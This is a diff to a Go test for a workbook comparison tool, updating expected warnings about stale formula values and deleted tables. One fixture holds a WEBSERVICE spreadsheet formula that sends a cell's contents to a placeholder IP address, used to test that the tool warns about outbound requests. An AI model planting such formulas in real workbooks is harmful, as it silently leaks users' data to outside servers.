@@ -110,9 +110,9 @@ func TestWhatTextsDoNotShowIsCompared(t *testing.T) {
 	docx("comment", "Please check", "Approved")
 	for name, want := range map[string]string{
 		"formula": `{Sum!B1||=WEBSERVICE("http://192.0.2.1/?"&Sales!B2)}` +
-			"values of formulas may be from before this change: open the workbook in a program that calculates, and save it; Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server",
+			"1 formula was not calculated and has the value of before, or none: Sum!B1 (the function WEBSERVICE); open the workbook in a program that calculates, and save it; Sum!B1 has the function WEBSERVICE: a program that opens the workbook may send a request to a server",
 		"table": "{Tab|sheet of 3 rows|}{table Revenue|Tab!A1:B3|}" +
-			`values of formulas may be from before this change: open the workbook in a program that calculates, and save it; 1 formula refers, the first in Sum!A1, to the deleted table "Revenue"`,
+			`the deleted sheet "Tab" or its tables are read by 1 formula of the sheet "Sum", the first in A1; 1 formula was not calculated and has the value of before, or none: Sum!A1 (a table that is not there); open the workbook in a program that calculates, and save it; 1 formula refers, the first in Sum!A1, to the deleted table "Revenue"`,
 		"header":  "{header|Header of ACME|Header of BETA}",
 		"comment": "{comment of A|Please check|Approved}",
 	} {
